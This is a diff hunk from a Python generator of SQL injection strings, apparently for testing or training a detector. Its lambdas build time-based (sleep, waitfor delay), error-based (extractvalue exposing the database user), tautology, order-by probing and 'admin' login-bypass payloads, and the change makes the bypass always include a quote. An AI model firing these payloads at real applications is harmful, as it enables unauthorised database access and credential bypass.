@@ -119,7 +119,7 @@ def attack_value(r: random.Random) -> str:
         lambda: f"{w}{quote_} and sleep({m}){end}",
         lambda: f"{n}{quote_};waitfor delay '0:0:{m}'{end}",
         lambda: f"{n}{quote_} and extractvalue({m},concat(0x7e,(select user()))){end}",
-        lambda: f"admin{quote_}{end}",
+        lambda: f"admin{quote_ or chr(39)}{end}",
         lambda: f"{w}{quote_} or '{w}'='{w}",
         lambda: f"{n}{quote_} order by {m}{end}",
         lambda: f"(select (case when ({n}={n}) then {m} else 1/0 end))",
